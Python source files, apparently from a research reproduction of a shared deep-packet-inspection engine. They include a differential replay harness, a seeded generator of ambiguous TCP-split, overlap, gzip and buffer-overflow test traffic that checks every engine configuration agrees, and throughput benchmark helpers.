        applied_from = len(self.events)
        for policy in self.policies:
            if not isinstance(policy, IsolationPolicy):
                continue
            decision = policy.decide(signals)
            if decision.action == "isolate":
                self._apply_isolate(epoch, decision)
        return self.events[applied_from:]

    def tick(
        self,
        *,
        epoch: int,
        heavy_flow: Hashable | None = None,
        heavy_share: float = 0.0,
        heavy_chain: "int | None" = None,
        anomalous_flows: "tuple | Sequence" = (),
    ) -> list[AutoscaleEvent]:
        """One control-loop iteration; returns the actions applied."""
        signals = self.observe(
            epoch=epoch,
            heavy_flow=heavy_flow,
            heavy_share=heavy_share,
            heavy_chain=heavy_chain,
            anomalous_flows=anomalous_flows,
        )
        applied_from = len(self.events)

        # Self-healing floor: crashed instances are replaced immediately,
        # outside any policy cooldown — this is the failover path.
        while len(self.shared_alive()) < self.min_instances:
            self._provision_shared(
                epoch, "heal", f"alive pool below floor {self.min_instances}"
            )

        decision = self._decide(signals)
        if decision.action == "up":
            if len(self.shared_alive()) < self.max_instances:
                self._provision_shared(epoch, "up", decision.reason)
        elif decision.action == "down":
            target = self._newest_managed_alive()
            if target is not None and len(self.shared_alive()) > self.min_instances:
                self.manager.decommission(target)
                self._managed.remove(target)
                self._record(epoch, "down", target, decision.reason)
        elif decision.action == "isolate":
            self._apply_isolate(epoch, decision)

        self._instances_gauge.set(len(self.shared_alive()))
        return self.events[applied_from:]

    def _newest_managed_alive(self) -> "str | None":
        for name in reversed(self._managed):
            instance = self.manager.get(name)
            if instance is not None and instance.alive:
                return name
        return None
