"""Differential replay: one adversarial corpus, every engine shape.

The scan-once thesis is a *bit-for-bit* claim: the reference, flat-table
and regex-prefilter kernels — monolithic or sharded, on the serial,
process-pool or zerocopy-arena backends — must produce identical
:class:`~repro.core.instance.InspectionOutput` matches, identical flow
state, and identical (canonicalized) telemetry for any input, including
the adversarial ones.  This module replays each corpus case through every
*leg* (one engine configuration) and reports any disagreement as a
structured divergence.

What is compared, per case:

* **matches** — the resolved per-middlebox ``(pattern id, position)``
  pairs of every inspected view, in delivery order;
* **flow state** — the flow table's ``offset``/``packets``/``last_seen``
  per flow key (the raw DFA ``state`` is representation-specific: sharded
  automata encode a mixed-radix tuple where monolithic ones store a node
  id, so equal raw states across legs would be an accident, not a
  contract — equal *offsets* are the contract);
* **telemetry digest** — one canonical digest per leg over the whole
  replay, with ``shard``-token metrics excluded
  (:func:`repro.telemetry.digest.deterministic_digest` with
  ``extra_exclude_tokens``), because a monolithic leg has no shards to
  count;
* **anomaly feature digest** — every leg feeds a
  :class:`~repro.anomaly.features.FeatureExtractor` the same scan
  metadata its inspections produce (size, match count, deterministic
  tick); the per-leg digest over the resulting feature table must be
  identical, proving the anomaly consumer observes the same inspection
  results no matter which engine produced them.

Reassembly and gzip preprocessing run per leg from the same case bytes;
they are deterministic, so any disagreement isolates to the engine under
test.  Reassembly overflow drops are bound to the per-leg hub as
``dpi_reassembly_overflow_total`` and therefore *inside* the digest: a
leg that sheds differently is a divergence, not noise.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.adversarial.corpus import AdversarialCase, Corpus
from repro.anomaly.features import FeatureExtractor, features_digest
from repro.core.instance import DPIServiceInstance, InstanceConfig
from repro.core.kernels import KERNEL_NAMES
from repro.core.preprocess import PayloadPreprocessor
from repro.core.workers import BACKEND_NAMES
from repro.net.reassembly import StreamReassembler
from repro.telemetry import TelemetryHub
from repro.telemetry.digest import deterministic_digest

#: Metric-name tokens excluded from cross-leg digest comparison (on top of
#: the timing/backend exclusions the digest always applies).
DIGEST_EXCLUDE_TOKENS = frozenset({"shard"})

#: Shard count the sharded legs run with.
DEFAULT_SHARDS = 2


@dataclass(frozen=True)
class Leg:
    """One engine configuration under differential test."""

    name: str
    kernel: str  # "reference" | "flat" | "regex" | "sharded"
    shard_kernel: str = "flat"  # per-shard family when kernel == "sharded"
    backend: str = "serial"
    shards: int = 0
    pipelined: bool = False

    def instance_config(self, environment) -> InstanceConfig:
        """The instance configuration this leg runs."""
        return InstanceConfig(
            pattern_sets=environment.pattern_sets,
            profiles=environment.profiles,
            chain_map=environment.chain_map,
            kernel=self.kernel,
            shards=self.shards,
            shard_kernel=self.shard_kernel,
            shard_backend=self.backend if self.shards else "serial",
            shard_pipelined=self.pipelined,
        )


def default_legs() -> list:
    """Every kernel family × monolithic/sharded × execution backend.

    Three monolithic legs (one per kernel family) plus nine sharded legs
    (three shard-kernel families × three backends); the zerocopy legs run
    pipelined so the double-buffered path is under test too.
    """
    legs = [
        Leg(name=f"mono-{kernel}", kernel=kernel) for kernel in KERNEL_NAMES
    ]
    for shard_kernel in KERNEL_NAMES:
        for backend in BACKEND_NAMES:
            legs.append(
                Leg(
                    name=f"shard-{shard_kernel}-{backend}",
                    kernel="sharded",
                    shard_kernel=shard_kernel,
                    backend=backend,
                    shards=DEFAULT_SHARDS,
                    pipelined=(backend == "zerocopy"),
                )
            )
    return legs


def legs_by_name(names) -> list:
    """Resolve leg names against :func:`default_legs` (order preserved)."""
    available = {leg.name: leg for leg in default_legs()}
    missing = [name for name in names if name not in available]
    if missing:
        raise ValueError(
            f"unknown legs {missing}; available: {sorted(available)}"
        )
    return [available[name] for name in names]


@dataclass
class Divergence:
    """One disagreement between a leg and the baseline leg."""

    case: str
    leg: str
    baseline: str
    fields: list  # which comparison surfaces disagreed
    detail: dict  # per-field (baseline value, leg value) excerpts

    def to_dict(self) -> dict:
        return {
            "case": self.case,
            "leg": self.leg,
            "baseline": self.baseline,
            "fields": self.fields,
            "detail": self.detail,
        }


@dataclass
class DifferentialReport:
    """The outcome of one corpus sweep."""

    legs: list
    cases: int
    divergences: list = field(default_factory=list)
    errors: list = field(default_factory=list)  # (leg, case, repr(error))
    #: Per-leg digest over the anomaly consumer's feature table.
    anomaly_digests: dict = field(default_factory=dict)

    @property
    def ok(self) -> bool:
        """True when every leg agreed on every case and nothing crashed."""
        return not self.divergences and not self.errors

    def to_dict(self) -> dict:
        return {
            "legs": list(self.legs),
            "cases": self.cases,
            "ok": self.ok,
            "divergences": [d.to_dict() for d in self.divergences],
            "errors": [
                {"leg": leg, "case": case, "error": error}
                for leg, case, error in self.errors
            ],
            "anomaly_digests": dict(self.anomaly_digests),
        }


def replay_case(
    instance: DPIServiceInstance,
    case: AdversarialCase,
    overflow_counter=None,
    anomaly: "FeatureExtractor | None" = None,
) -> dict:
    """Drive one case through *instance*; returns the comparison record.

    Flow keys are namespaced by case name so one long-lived instance can
    replay a whole corpus without cases contaminating each other's flow
    state.  When *anomaly* is given, every inspected view is also observed
    as scan metadata (size, match count, a per-case deterministic tick) —
    the cross-leg feature-digest surface.
    """
    reassemblers: dict = {}
    preprocessor = PayloadPreprocessor() if case.preprocess else None
    records = []
    scans = 0
    for index, (flow, seq, data) in enumerate(case.segments):
        stream = reassemblers.get(flow)
        if stream is None:
            def on_overflow(seq_, dropped_, _counter=overflow_counter):
                if _counter is not None:
                    _counter.inc()

            stream = StreamReassembler(
                policy=case.policy,
                max_buffered=case.max_buffered,
                on_overflow=on_overflow,
            )
            reassemblers[flow] = stream
        released = stream.add_segment(seq, data)
        if not released:
            continue
        if preprocessor is None:
            views = [("raw", released, (case.name, flow))]
        else:
            views = [
                (
                    "raw"
                    if not view.compressed
                    else f"gzip@{view.source_offset}",
                    view.data,
                    (case.name, flow)
                    if not view.compressed
                    else (case.name, flow, "gzip", view.source_offset),
                )
                for view in preprocessor.views(released)
            ]
        for kind, data_view, scan_key in views:
            output = instance.inspect(
                data_view, chain_id=case.chain_id, flow_key=scan_key
            )
            if anomaly is not None:
                anomaly.observe(
                    scan_key,
                    chain_id=case.chain_id,
                    size=len(data_view),
                    matches=sum(
                        len(hits) for hits in output.matches.values()
                    ),
                    now=float(scans),
                )
            scans += 1
            records.append(
                {
                    "segment": index,
                    "view": kind,
                    "matches": {
                        str(middlebox): sorted(map(list, matches))
                        for middlebox, matches in output.matches.items()
                    },
                }
            )
    flows = {}
    flow_table = instance.scanner.flow_table
    for key in flow_table.flow_keys():
        if not (isinstance(key, tuple) and key and key[0] == case.name):
            continue  # another case's flow
        exported = flow_table.export_flow(key)
        # The raw DFA state is representation-specific (see module
        # docstring); offset/packets/last_seen are the cross-leg contract.
        flows[repr(key)] = {
            "offset": exported["offset"],
            "packets": exported["packets"],
            "last_seen": exported["last_seen"],
        }
    stats = _sum_stats(reassemblers)
    return {"case": case.name, "records": records, "flows": flows,
            "reassembly": stats}


def _sum_stats(reassemblers: dict) -> dict:
    totals = {
        "overflow_drops": 0,
        "conflicting_bytes": 0,
        "bytes_released": 0,
        "keepalives": 0,
    }
    for stream in reassemblers.values():
        for key in totals:
            totals[key] += getattr(stream.stats, key)
    return totals


def _first_diff(baseline, other, limit: int = 3) -> list:
    """A compact excerpt of where two record lists disagree."""
    diffs = []
    for index in range(max(len(baseline), len(other))):
        left = baseline[index] if index < len(baseline) else None
        right = other[index] if index < len(other) else None
        if left != right:
            diffs.append({"index": index, "baseline": left, "leg": right})
            if len(diffs) >= limit:
                break
    return diffs


def run_differential(
    corpus: Corpus,
    legs: "list | None" = None,
    progress=None,
) -> DifferentialReport:
    """Replay every corpus case through every leg and compare.

    One instance and one telemetry hub per leg live for the whole sweep —
    the per-leg digest covers the entire corpus, so an extra or missing
    metric increment *anywhere* shows up even if every per-case record
    matches.  ``progress`` is an optional ``callable(message)``.
    """
    legs = default_legs() if legs is None else list(legs)
    if not legs:
        raise ValueError("no legs to run")
    report = DifferentialReport(
        legs=[leg.name for leg in legs], cases=len(corpus.cases)
    )
    per_leg: dict = {}
    digests: dict = {}
    for leg in legs:
        if progress is not None:
            progress(f"replaying {len(corpus.cases)} cases on {leg.name}")
        hub = TelemetryHub(clock=lambda: 0.0, tracing=False)
        instance = DPIServiceInstance(
            leg.instance_config(corpus.environment),
            name="fuzz-diff",
            telemetry=hub,
        )
        overflow_counter = hub.registry.counter(
            "dpi_reassembly_overflow_total", instance=instance.name
        )
        anomaly = FeatureExtractor()
        results = {}
        try:
            for case in corpus.cases:
                try:
                    results[case.name] = replay_case(
                        instance,
                        case,
                        overflow_counter=overflow_counter,
                        anomaly=anomaly,
                    )
                except Exception as error:  # a crash IS a divergence
                    report.errors.append(
                        (leg.name, case.name, f"{type(error).__name__}: {error}")
                    )
                    results[case.name] = None
        finally:
            if hasattr(instance.automaton, "shutdown"):
                instance.automaton.shutdown()
        per_leg[leg.name] = results
        digests[leg.name] = deterministic_digest(
            hub, extra_exclude_tokens=DIGEST_EXCLUDE_TOKENS
        )
        report.anomaly_digests[leg.name] = features_digest(
            anomaly.features_map()
        )
    baseline = legs[0]
    base_results = per_leg[baseline.name]
    for leg in legs[1:]:
        leg_results = per_leg[leg.name]
        for case in corpus.cases:
            left = base_results.get(case.name)
            right = leg_results.get(case.name)
            if left is None or right is None:
                continue  # already reported as an error
            fields = []
            detail = {}
            if left["records"] != right["records"]:
                fields.append("matches")
                detail["matches"] = _first_diff(
                    left["records"], right["records"]
                )
            if left["flows"] != right["flows"]:
                fields.append("flow_state")
                detail["flow_state"] = {
                    "baseline": left["flows"],
                    "leg": right["flows"],
                }
            if left["reassembly"] != right["reassembly"]:
                fields.append("reassembly")
                detail["reassembly"] = {
                    "baseline": left["reassembly"],
                    "leg": right["reassembly"],
                }
            if fields:
                report.divergences.append(
                    Divergence(
                        case=case.name,
                        leg=leg.name,
                        baseline=baseline.name,
                        fields=fields,
                        detail=detail,
                    )
                )
        if digests[leg.name] != digests[baseline.name]:
            report.divergences.append(
                Divergence(
                    case="<telemetry-digest>",
                    leg=leg.name,
                    baseline=baseline.name,
                    fields=["telemetry_digest"],
                    detail={
                        "baseline": digests[baseline.name],
                        "leg": digests[leg.name],
                    },
                )
            )
        if report.anomaly_digests[leg.name] != (
            report.anomaly_digests[baseline.name]
        ):
            report.divergences.append(
                Divergence(
                    case="<anomaly-digest>",
                    leg=leg.name,
                    baseline=baseline.name,
                    fields=["anomaly_digest"],
                    detail={
                        "baseline": report.anomaly_digests[baseline.name],
                        "leg": report.anomaly_digests[leg.name],
                    },
                )
            )
    return report
