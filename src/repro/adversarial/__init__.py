"""Evasion & ambiguity robustness suite (adversarial corpus + diff).

``repro.adversarial`` generates seeded adversarial inputs — cross-packet
pattern splits under ambiguous TCP overlap, truncated/corrupt gzip
regions, pathological pattern-overlap geometry, reassembly-buffer
exhaustion — and replays them differentially through every kernel family
× sharding mode × execution backend, asserting byte-identical matches,
flow state and telemetry.  ``repro-dpi fuzz-diff`` is the CLI entry.
"""

from repro.adversarial.corpus import (
    CASE_KINDS,
    CORPUS_VERSION,
    AdversarialCase,
    Corpus,
    CorpusEnvironment,
    default_environment,
    generate_corpus,
)
from repro.adversarial.differential import (
    DEFAULT_SHARDS,
    DIGEST_EXCLUDE_TOKENS,
    DifferentialReport,
    Divergence,
    Leg,
    default_legs,
    legs_by_name,
    replay_case,
    run_differential,
)

__all__ = [
    "CASE_KINDS",
    "CORPUS_VERSION",
    "AdversarialCase",
    "Corpus",
    "CorpusEnvironment",
    "default_environment",
    "generate_corpus",
    "DEFAULT_SHARDS",
    "DIGEST_EXCLUDE_TOKENS",
    "DifferentialReport",
    "Divergence",
    "Leg",
    "default_legs",
    "legs_by_name",
    "replay_case",
    "run_differential",
]
