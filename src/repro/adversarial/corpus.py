"""Seeded adversarial corpus generation.

The fingerprinting literature ("Fingerprinting Deep Packet Inspection
Devices by Their Ambiguities") catalogs where real DPI engines disagree:
overlapping TCP segments with conflicting content, patterns split across
packet boundaries, and decoder edge cases.  For a DPI *service* those
ambiguities are existential — the scan-once-for-all-middleboxes thesis
only holds if every kernel family and deployment shape resolves them
identically — so this module generates exactly that traffic, seeded and
reproducible:

* **split** cases — patterns cut across segment boundaries, delivered out
  of order, duplicated, retransmitted with changed payloads, interleaved
  with zero-length keepalives, under both overlap policies;
* **gzip** cases — compressed regions that are truncated, corrupted,
  concatenated, or merely gzip-magic lookalikes, driven through
  :mod:`repro.core.preprocess`;
* **overlap** cases — pathological pattern geometry derived from the
  installed pattern sets: self-overlapping suffixes, prefixes shared
  across middleboxes, matches anchored at the flat kernel's 8-byte unroll
  boundaries and at stopping-condition edges;
* **overflow** cases — out-of-order floods against a tiny reassembly
  buffer, pinning the drop-and-count decision (a ``BufferError`` crash
  here is how this suite found its first real bug).

A corpus is a plain JSON document: an *environment* (pattern sets,
middlebox profiles, chain map — everything an instance needs) plus a list
of :class:`AdversarialCase` records whose segment payloads are base64.
``tests/corpus/`` checks in a minimized corpus as a permanent regression
gate; ``repro-dpi fuzz-diff`` generates fresh ones at any size.
"""

from __future__ import annotations

import base64
import gzip as gzip_module
import json
import random
from dataclasses import dataclass, field

from repro.core.patterns import Pattern, PatternKind
from repro.core.scanner import MiddleboxProfile
from repro.net.reassembly import OVERLAP_POLICIES

#: Case families the generator produces.
CASE_KINDS = ("split", "gzip", "overlap", "overflow")

#: Corpus file format version.
CORPUS_VERSION = 1


@dataclass(frozen=True)
class AdversarialCase:
    """One adversarial traffic sample.

    ``segments`` is the delivery order: ``(flow, seq, payload)`` triples —
    sequence numbers may overlap, repeat, regress, or leave gaps.  The
    *policy* and optional ``max_buffered`` configure the reassembler the
    case must be replayed through; ``preprocess`` routes released bytes
    through gzip-region inflation before scanning.
    """

    name: str
    kind: str
    chain_id: int
    segments: tuple  # ((flow, seq, bytes), ...)
    policy: str = "first"
    preprocess: bool = False
    max_buffered: "int | None" = None

    def __post_init__(self) -> None:
        if self.kind not in CASE_KINDS:
            raise ValueError(
                f"unknown case kind {self.kind!r}; expected one of {CASE_KINDS}"
            )
        if self.policy not in OVERLAP_POLICIES:
            raise ValueError(
                f"unknown overlap policy {self.policy!r}; "
                f"expected one of {OVERLAP_POLICIES}"
            )
        if not self.segments:
            raise ValueError("a case needs at least one segment")

    def to_dict(self) -> dict:
        """JSON-friendly form (payloads base64-encoded)."""
        return {
            "name": self.name,
            "kind": self.kind,
            "chain_id": self.chain_id,
            "policy": self.policy,
            "preprocess": self.preprocess,
            "max_buffered": self.max_buffered,
            "segments": [
                [flow, seq, base64.b64encode(data).decode("ascii")]
                for flow, seq, data in self.segments
            ],
        }

    @classmethod
    def from_dict(cls, payload: dict) -> "AdversarialCase":
        """Inverse of :meth:`to_dict`."""
        return cls(
            name=payload["name"],
            kind=payload["kind"],
            chain_id=payload["chain_id"],
            policy=payload.get("policy", "first"),
            preprocess=payload.get("preprocess", False),
            max_buffered=payload.get("max_buffered"),
            segments=tuple(
                (flow, seq, base64.b64decode(data))
                for flow, seq, data in payload["segments"]
            ),
        )


@dataclass
class CorpusEnvironment:
    """Everything an instance needs to replay a corpus."""

    pattern_sets: dict  # middlebox id -> [Pattern]
    profiles: dict  # middlebox id -> MiddleboxProfile
    chain_map: dict  # chain id -> (middlebox id, ...)

    def to_dict(self) -> dict:
        return {
            "pattern_sets": {
                str(mb): [
                    [
                        p.pattern_id,
                        base64.b64encode(p.data).decode("ascii"),
                        p.kind.value,
                    ]
                    for p in patterns
                ]
                for mb, patterns in self.pattern_sets.items()
            },
            "profiles": {
                str(mb): {
                    "name": prof.name,
                    "stateful": prof.stateful,
                    "stopping_condition": prof.stopping_condition,
                    "read_only": prof.read_only,
                }
                for mb, prof in self.profiles.items()
            },
            "chain_map": {
                str(chain): list(middleboxes)
                for chain, middleboxes in self.chain_map.items()
            },
        }

    @classmethod
    def from_dict(cls, payload: dict) -> "CorpusEnvironment":
        return cls(
            pattern_sets={
                int(mb): [
                    Pattern(
                        pattern_id,
                        base64.b64decode(data),
                        kind=PatternKind(kind),
                    )
                    for pattern_id, data, kind in patterns
                ]
                for mb, patterns in payload["pattern_sets"].items()
            },
            profiles={
                int(mb): MiddleboxProfile(
                    int(mb),
                    name=prof["name"],
                    stateful=prof["stateful"],
                    stopping_condition=prof["stopping_condition"],
                    read_only=prof["read_only"],
                )
                for mb, prof in payload["profiles"].items()
            },
            chain_map={
                int(chain): tuple(middleboxes)
                for chain, middleboxes in payload["chain_map"].items()
            },
        )


@dataclass
class Corpus:
    """An environment plus its adversarial cases."""

    environment: CorpusEnvironment
    cases: list = field(default_factory=list)
    seed: "int | None" = None

    def to_dict(self) -> dict:
        return {
            "version": CORPUS_VERSION,
            "seed": self.seed,
            "environment": self.environment.to_dict(),
            "cases": [case.to_dict() for case in self.cases],
        }

    @classmethod
    def from_dict(cls, payload: dict) -> "Corpus":
        version = payload.get("version", CORPUS_VERSION)
        if version != CORPUS_VERSION:
            raise ValueError(f"unsupported corpus version: {version}")
        return cls(
            environment=CorpusEnvironment.from_dict(payload["environment"]),
            cases=[AdversarialCase.from_dict(c) for c in payload["cases"]],
            seed=payload.get("seed"),
        )

    def dump(self, path) -> None:
        """Write the corpus as JSON to *path*."""
        with open(path, "w", encoding="utf-8") as handle:
            json.dump(self.to_dict(), handle, indent=1, sort_keys=True)
            handle.write("\n")

    @classmethod
    def load(cls, path) -> "Corpus":
        """Read a corpus JSON file."""
        with open(path, encoding="utf-8") as handle:
            return cls.from_dict(json.load(handle))


def default_environment() -> CorpusEnvironment:
    """The standard adversarial pattern geometry.

    Deliberately pathological: middlebox 1 carries self-overlapping
    patterns (a suffix that is also a prefix, so occurrences can overlap
    and a split can hide one), middlebox 2 shares prefixes with middlebox
    1 across *different* automata shards, and middlebox 3 is stateful with
    a stopping condition so the scan limit lands mid-stream.  One regex
    per set keeps the prefilter kernel family honest.
    """
    pattern_sets = {
        1: [
            Pattern(0, b"abab"),  # self-overlapping: "ababab" matches twice
            Pattern(1, b"ababab"),
            Pattern(2, b"attack"),
            Pattern(3, rb"evil\d+", kind=PatternKind.REGEX),
        ],
        2: [
            Pattern(0, b"abax"),  # shares "aba" with middlebox 1
            Pattern(1, b"attach"),  # shares "attac" with "attack"
            Pattern(2, b"virus"),
        ],
        3: [
            Pattern(0, b"boundary"),  # 8 bytes: one flat-kernel unroll
            Pattern(1, b"split-me-in-two"),
            Pattern(2, rb"warm\s+hole", kind=PatternKind.REGEX),
        ],
    }
    profiles = {
        1: MiddleboxProfile(1, name="ids", stateful=True),
        2: MiddleboxProfile(2, name="av", stateful=False),
        3: MiddleboxProfile(3, name="filter", stateful=True, stopping_condition=64),
    }
    chain_map = {100: (1, 2, 3), 101: (1,), 102: (2, 3)}
    return CorpusEnvironment(pattern_sets, profiles, chain_map)


def _literal_pool(environment: CorpusEnvironment) -> list:
    """Literal pattern bytes to embed in generated streams."""
    pool = []
    for patterns in environment.pattern_sets.values():
        for pattern in patterns:
            if pattern.kind is PatternKind.LITERAL:
                pool.append(pattern.data)
    return sorted(set(pool))


_FILLER = b"the quick brown packet jumps over the lazy middlebox "


def _filler(rng: random.Random, length: int) -> bytes:
    start = rng.randrange(len(_FILLER))
    doubled = _FILLER + _FILLER
    out = (doubled[start:] * (length // len(_FILLER) + 2))[:length]
    return out


def _build_stream(rng: random.Random, pool: list, occurrences: int) -> bytes:
    """Filler with *occurrences* embedded patterns (possibly touching)."""
    parts = []
    for _ in range(occurrences):
        parts.append(_filler(rng, rng.randrange(0, 24)))
        parts.append(rng.choice(pool))
    parts.append(_filler(rng, rng.randrange(0, 16)))
    return b"".join(parts)


def _segment_stream(rng: random.Random, stream: bytes) -> list:
    """Cut *stream* into segments, cutting mid-pattern on purpose."""
    cuts = sorted(
        {0, len(stream)}
        | {rng.randrange(1, len(stream)) for _ in range(rng.randrange(1, 6))}
    )
    return [
        (cuts[i], stream[cuts[i] : cuts[i + 1]])
        for i in range(len(cuts) - 1)
    ]


def _make_split_case(
    rng: random.Random, pool: list, index: int, chain_id: int
) -> AdversarialCase:
    stream = _build_stream(rng, pool, rng.randrange(1, 4))
    segments = _segment_stream(rng, stream)
    rng.shuffle(segments)
    delivery = []
    flow = f"flow-{index}"
    for seq, data in segments:
        delivery.append((flow, seq, data))
        if rng.random() < 0.3:  # straight duplicate (retransmission)
            delivery.append((flow, seq, data))
        if rng.random() < 0.25 and data:  # retransmission with changed payload
            mutated = bytes([data[0] ^ 0x20]) + data[1:]
            delivery.append((flow, seq, mutated))
        if rng.random() < 0.2:  # zero-length keepalive probe
            delivery.append((flow, rng.randrange(0, len(stream) + 1), b""))
    if rng.random() < 0.5 and len(stream) > 8:
        # A conflicting overlap inside the stream: same range, hostile
        # content — exactly the ambiguity the overlap policy resolves.
        at = rng.randrange(0, len(stream) - 4)
        delivery.insert(
            rng.randrange(len(delivery) + 1),
            (flow, at, bytes(b ^ 0xFF for b in stream[at : at + 4])),
        )
    return AdversarialCase(
        name=f"split-{index:03d}",
        kind="split",
        chain_id=chain_id,
        policy=rng.choice(OVERLAP_POLICIES),
        segments=tuple(delivery),
    )


def _make_gzip_case(
    rng: random.Random, pool: list, index: int, chain_id: int
) -> AdversarialCase:
    body = _build_stream(rng, pool, rng.randrange(1, 3))
    compressed = gzip_module.compress(body, mtime=0)
    variant = index % 5
    if variant == 0:  # intact member after plain bytes
        payload = _filler(rng, 8) + compressed
    elif variant == 1:  # truncated mid-deflate
        keep = rng.randrange(4, max(5, len(compressed) - 4))
        payload = compressed[:keep]
    elif variant == 2:  # corrupted: flip a byte inside the deflate stream
        at = min(12, len(compressed) - 1)
        payload = (
            compressed[:at]
            + bytes([compressed[at] ^ 0xFF])
            + compressed[at + 1 :]
        )
    elif variant == 3:  # gzip magic without the deflate method byte
        payload = b"\x1f\x8b\x00lookalike" + rng.choice(pool)
    else:  # concatenated members + trailing garbage
        second = gzip_module.compress(rng.choice(pool), mtime=0)
        payload = compressed + second + b"\x1f\x8b"
    flow = f"gz-{index}"
    if rng.random() < 0.5 and len(payload) > 6:
        # Also split the compressed payload across segments.
        segments = _segment_stream(rng, payload)
        rng.shuffle(segments)
        delivery = tuple((flow, seq, data) for seq, data in segments)
    else:
        delivery = ((flow, 0, payload),)
    return AdversarialCase(
        name=f"gzip-{index:03d}",
        kind="gzip",
        chain_id=chain_id,
        policy=rng.choice(OVERLAP_POLICIES),
        preprocess=True,
        segments=delivery,
    )


def _make_overlap_case(
    rng: random.Random, pool: list, index: int, chain_id: int
) -> AdversarialCase:
    variant = index % 4
    if variant == 0:
        # Self-overlapping occurrences: "abababab" holds "abab" three
        # times and "ababab" twice, all overlapping.
        payload = _filler(rng, rng.randrange(0, 8)) + b"ab" * rng.randrange(3, 7)
    elif variant == 1:
        # Shared prefixes diverging at the last byte, back to back.
        payload = b"attack" + b"attach" + b"atta" + b"ck"
    elif variant == 2:
        # A match ending exactly at an 8-byte unroll boundary, then one
        # ending exactly at payload end.
        prefix = _filler(rng, (8 - (len(b"boundary") % 8)) % 8 + 8 * rng.randrange(0, 3))
        payload = prefix + b"boundary" + _filler(rng, 3) + b"virus"
    else:
        # Straddle the stateful stopping condition (middlebox 3, 64 bytes
        # into the flow): the pattern starts before and ends after it.
        payload = _filler(rng, 60) + b"split-me-in-two" + _filler(rng, 5)
    flow = f"ov-{index}"
    if variant == 3:
        # Deliver as two packets of one flow so the straddle crosses a
        # packet boundary *and* the stopping condition.
        cut = 64 + rng.randrange(-4, 5)
        cut = max(1, min(len(payload) - 1, cut))
        delivery = ((flow, 0, payload[:cut]), (flow, cut, payload[cut:]))
    else:
        delivery = ((flow, 0, payload),)
    return AdversarialCase(
        name=f"overlap-{index:03d}",
        kind="overlap",
        chain_id=chain_id,
        segments=delivery,
    )


def _make_overflow_case(
    rng: random.Random, pool: list, index: int, chain_id: int
) -> AdversarialCase:
    """An out-of-order flood against a tiny buffer: the engine must shed
    (drop + count), not crash, and every leg must shed identically."""
    flow = f"of-{index}"
    cap = rng.choice((16, 32, 64))
    head = _filler(rng, 8) + rng.choice(pool)
    delivery = [(flow, 0, head)]
    # Far-future segments that can never drain and must overflow the cap.
    seq = len(head) + rng.randrange(4, 12)  # leave a gap
    for _ in range(rng.randrange(6, 12)):
        chunk = _filler(rng, rng.randrange(6, 14))
        delivery.append((flow, seq, chunk))
        seq += len(chunk) + rng.randrange(0, 3)
    # Fill the gap: whatever survived the cap drains in order.
    delivery.append((flow, len(head), _filler(rng, 4) + rng.choice(pool)))
    return AdversarialCase(
        name=f"overflow-{index:03d}",
        kind="overflow",
        chain_id=chain_id,
        policy=rng.choice(OVERLAP_POLICIES),
        max_buffered=cap,
        segments=tuple(delivery),
    )


_MAKERS = {
    "split": _make_split_case,
    "gzip": _make_gzip_case,
    "overlap": _make_overlap_case,
    "overflow": _make_overflow_case,
}


def generate_corpus(
    seed: int,
    cases_per_kind: int = 8,
    kinds: tuple = CASE_KINDS,
    environment: "CorpusEnvironment | None" = None,
) -> Corpus:
    """A seeded corpus: same seed, same cases, byte for byte."""
    if cases_per_kind < 1:
        raise ValueError(f"cases_per_kind must be positive: {cases_per_kind}")
    unknown = [kind for kind in kinds if kind not in CASE_KINDS]
    if unknown:
        raise ValueError(f"unknown case kinds: {unknown}")
    environment = environment or default_environment()
    pool = _literal_pool(environment)
    rng = random.Random(seed)
    chains = sorted(environment.chain_map)
    cases = []
    for kind in kinds:
        maker = _MAKERS[kind]
        for index in range(cases_per_kind):
            chain_id = chains[rng.randrange(len(chains))]
            cases.append(maker(rng, pool, index, chain_id))
    return Corpus(environment=environment, cases=cases, seed=seed)
