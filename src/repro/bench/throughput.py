"""Throughput measurement of scan loops.

The paper reports DPI throughput in Mbps over its traces.  The helpers here
time a scan callable over a list of payloads with ``time.perf_counter`` and
convert to megabits per second.  Absolute numbers on a Python engine are
orders of magnitude below the paper's C engine; every benchmark therefore
compares *ratios* between configurations, which is where the paper's claims
live.
"""

from __future__ import annotations

import time
from dataclasses import dataclass


@dataclass(frozen=True)
class ThroughputResult:
    """Outcome of one timed scan run."""

    bytes_scanned: int
    packets: int
    seconds: float

    @property
    def mbps(self) -> float:
        """Megabits per second (the paper's unit)."""
        if self.seconds <= 0:
            return float("inf")
        return self.bytes_scanned * 8 / self.seconds / 1e6

    @property
    def ns_per_byte(self) -> float:
        """Average cost per scanned byte."""
        if self.bytes_scanned == 0:
            return 0.0
        return self.seconds * 1e9 / self.bytes_scanned

    def __str__(self) -> str:
        return (
            f"{self.mbps:.3f} Mbps ({self.bytes_scanned} bytes, "
            f"{self.packets} packets, {self.seconds:.4f} s)"
        )


def measure_scan_throughput(
    scan, payloads, repeat: int = 1, warmup_packets: int = 0
) -> ThroughputResult:
    """Time ``scan(payload)`` over *payloads*, *repeat* passes.

    ``warmup_packets`` payloads are scanned untimed first, so one-time costs
    (lazy caches, branch warmup) do not skew short runs.
    """
    if repeat < 1:
        raise ValueError(f"repeat must be >= 1: {repeat}")
    for payload in payloads[:warmup_packets]:
        scan(payload)
    total_bytes = sum(len(p) for p in payloads) * repeat
    started = time.perf_counter()
    for _ in range(repeat):
        for payload in payloads:
            scan(payload)
    elapsed = time.perf_counter() - started
    return ThroughputResult(
        bytes_scanned=total_bytes,
        packets=len(payloads) * repeat,
        seconds=elapsed,
    )


def pipeline_throughput(stages: list) -> float:
    """Throughput of a pipeline of middleboxes, each with its own Mbps.

    The paper's Figure 9 baseline: traffic traverses every stage, so the
    pipeline runs at the speed of its slowest stage.
    """
    if not stages:
        raise ValueError("pipeline needs at least one stage")
    return min(stages)


def replicated_throughput(per_instance_mbps: float, instances: int) -> float:
    """Aggregate throughput of load-balanced identical instances.

    The paper's Figure 9 virtual-DPI setup: N instances of the combined
    engine share the load, so capacity adds up.
    """
    if instances < 1:
        raise ValueError(f"instances must be >= 1: {instances}")
    return per_instance_mbps * instances
