"""Text rendering of experiment outputs in the paper's shape.

Benchmarks print the same rows/series the paper reports; these helpers keep
the formatting consistent (aligned tables, labeled series) and provide the
ratio arithmetic the paper's headline claims use ("at least 86 % faster").
"""

from __future__ import annotations

from dataclasses import dataclass, field


def percent_faster(new_value: float, old_value: float) -> float:
    """How much faster *new_value* is than *old_value*, in percent.

